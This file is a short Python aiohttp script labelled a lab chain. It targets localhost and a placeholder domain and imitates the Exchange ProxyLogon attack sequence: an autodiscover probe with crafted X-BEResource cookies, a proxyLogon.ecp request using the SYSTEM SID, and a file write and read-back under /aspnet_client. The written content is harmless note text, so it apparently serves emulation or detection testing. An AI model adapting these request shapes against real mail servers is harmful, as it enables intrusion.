# ruff: noqa
"""Async version of the lab chain (aiohttp)."""

import asyncio
import json
import sys

import aiohttp

PORT = int(sys.argv[1]) if len(sys.argv) > 1 else 8080
AGENT = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
FILE_URL = "/aspnet_client/system_web/readme_91453.txt"

GENERIC = {
    "User-Agent": AGENT,
    "x-requested-with": "XMLHttpRequest",
    "Accept": "*/*",
    "accept-language": "en-US,en;q=0.9",
    "connection": "close",
}


async def step_probe(s: aiohttp.ClientSession) -> int:
    cookie = "X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522"
    params = {
        "Pad": "A" * 37,
        "Protocol": "Autodiscoverv1",
        "Email": "administrator@lab.invalid/mapi/nspi",
        "RequestId": "20200302-7720",
    }
    async with s.get(
        "/autodiscover/autodiscover.json", params=params, headers={**GENERIC, "cookie": cookie}
    ) as resp:
        await resp.read()
        return resp.status


async def step_identity(s: aiohttp.ClientSession) -> str:
    payload = json.dumps(
        {"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}
    )
    hdrs = {
        "user-agent": AGENT,
        "msexchlogonmailbox": "S-1-5-20",
        "content-type": "application/json",
        "X-BEResource": "localhost@lab.invalid/ecp/proxyLogon.ecp",
    }
    async with s.post("/ecp/proxyLogon.ecp", data=payload, headers=hdrs) as resp:
        txt = (await resp.text()).strip()
        return txt if resp.status == 200 and txt else "anonymous"


async def step_note(s: aiohttp.ClientSession, who: str) -> bool:
    text = "\n".join([f"note {i} of 3 for {who}" for i in (1, 2, 3)])
    async with s.post(
        FILE_URL,
        data=text.encode(),
        headers={"user-agent": AGENT, "X-Note-Path": FILE_URL, "Content-Type": "text/plain"},
    ) as resp:
        return resp.status in (200, 201, 204)


async def step_check(s: aiohttp.ClientSession) -> int:
    async with s.get(FILE_URL, headers=GENERIC) as resp:
        return 0 if resp.status == 404 else len((await resp.content.read(1024)))


async def main() -> None:
    timeout = aiohttp.ClientTimeout(total=10)
    async with aiohttp.ClientSession(f"http://127.0.0.1:{PORT}", timeout=timeout) as s:
        if await step_probe(s) < 500:
            who = await step_identity(s)
            res = {"written": await step_note(s, who), "read_back": await step_check(s)}
            print(json.dumps(res, indent=4))


asyncio.run(main())
